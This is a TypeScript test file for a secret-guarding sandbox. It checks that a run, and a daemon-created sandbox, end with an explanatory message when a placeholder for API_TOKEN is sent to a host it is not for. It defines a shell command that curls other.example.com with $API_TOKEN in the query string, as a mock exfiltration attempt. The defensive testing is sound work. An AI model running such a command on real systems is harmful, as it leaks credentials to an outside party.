// A placeholder that is sent where its secret says that this ends the sandbox.
import assert from 'node:assert/strict';
import { findPresentCaller } from './harness/caller.ts';
import { test } from 'node:test';
import { assertNoCanary, newCanary } from './harness/canary.ts';
import { createDaemonScene, type DaemonScene } from './harness/daemon.ts';
import { describeRun, type SallyportResult } from './harness/sallyport.ts';
import { startUpstream } from './harness/upstream.ts';

const HOST = 'api.example.com';
const OTHER = 'other.example.com';
/** What the command would do afterwards. */
const MISUSE = `curl -sS -m 20 "https://${OTHER}/?q=$API_TOKEN"; sleep 60; echo survived`;

async function store(scene: DaemonScene, value: string): Promise<void> {
  const args = ['secret', 'set-custom', '-g', '--host', HOST, '--env', 'API_TOKEN', '--on-violation', 'terminate'];
  const result = await scene.cli(args, { stdin: value });
  assert.equal(result.status, 0, describeRun(result));
}

test('run ends when a guarded placeholder is misused, and says which one', async () => {
  const canary = newCanary();
  await using scene = await createDaemonScene(findPresentCaller());
  await using upstream = await startUpstream({ names: [HOST, OTHER] });
  await store(scene, canary.value);
  const started = performance.now();
  const ran: SallyportResult = await scene.cli([
    'run',
    '--no-workspace',
    ...upstream.flags(),
    '--allow',
    OTHER,
    '--',
    'sh',
    '-c',
    MISUSE,
  ]);
  assert.equal(ran.status, 123, describeRun(ran));
  assert.match(ran.stderr, /the sandbox was ended: the placeholder of API_TOKEN was sent where it is not for/);
  assert.ok(!ran.stdout.includes('survived') && performance.now() - started < 50_000);
  assert.equal(upstream.requests.length, 0);
  assertNoCanary(canary, { outputs: { stdout: ran.stdout, stderr: ran.stderr }, files: [scene.root] });
});

test('a sandbox of the daemon ends when a guarded placeholder is misused, and says why', async () => {
  const canary = newCanary();
  await using scene = await createDaemonScene(findPresentCaller());
  await using upstream = await startUpstream({ names: [HOST, OTHER] });
  await store(scene, canary.value);
  const created = await scene.cli([
    'create',
    '--name',
    'guarded',
    '--no-workspace',
    ...upstream.flags(),
    '--allow',
    OTHER,
  ]);
  assert.equal(created.status, 0, describeRun(created));
  const ran = await scene.cli(['exec', 'guarded', '--', 'sh', '-c', MISUSE]);
  assert.notEqual(ran.status, 0, describeRun(ran));
  assert.ok(!ran.stdout.includes('survived'));
  for (;;) {
    const { state } = await scene.inspect('guarded');
    if (state !== 'running' && state !== 'stopping') break;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  const { state, reason } = await scene.inspect('guarded');
  assert.match(`${state} ${String(reason)}`, /^(stopped|failed) .*placeholder of API_TOKEN/);
  assert.equal(upstream.requests.length, 0);
});
